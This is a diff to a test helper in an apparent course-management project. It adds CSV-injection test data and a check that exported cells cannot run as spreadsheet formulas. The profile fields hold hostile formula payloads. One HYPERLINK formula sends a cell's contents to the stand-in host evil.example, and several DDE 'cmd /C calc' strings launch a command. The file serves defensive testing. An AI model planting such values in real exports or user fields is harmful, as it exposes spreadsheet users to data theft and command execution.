@@ -16,6 +16,35 @@ def make_user(username: str, role: str = User.Role.STUDENT, **extra) -> User:
     return user
 
 
+# Cells a spreadsheet would run as formulas (OWASP CSV-injection examples); usernames may only
+# hold letters, digits and . @ + - _, so the username starts with a minus instead.
+HOSTILE_PROFILE = {
+    "first_name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "last_name": "+cmd|' /C calc'!A0",
+    "section": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "sis_user_id": "\t=1+1",
+    "email": "=1+1@evil.example",
+}
+HOSTILE_USERNAME = "-2+3"
+
+
+def enrol_hostile_student(course) -> User:
+    """A student of ``course`` whose every text field would run as a spreadsheet formula."""
+    from collector import services
+
+    user = make_user(HOSTILE_USERNAME, **HOSTILE_PROFILE)
+    services.course_join(user=user, join_code=course.join_code)
+    return user
+
+
+def assert_spreadsheet_safe(rows: list[list[str]]) -> None:
+    """No parsed CSV cell starts with a character that makes a spreadsheet run it."""
+    from collector.csv_safety import FORMULA_TRIGGERS
+
+    dangerous = [cell for row in rows for cell in row if cell[:1] in FORMULA_TRIGGERS]
+    assert not dangerous, dangerous
+
+
 def question_data(**overrides) -> dict:
     """A valid submission in the service's keyword form."""
     data = {
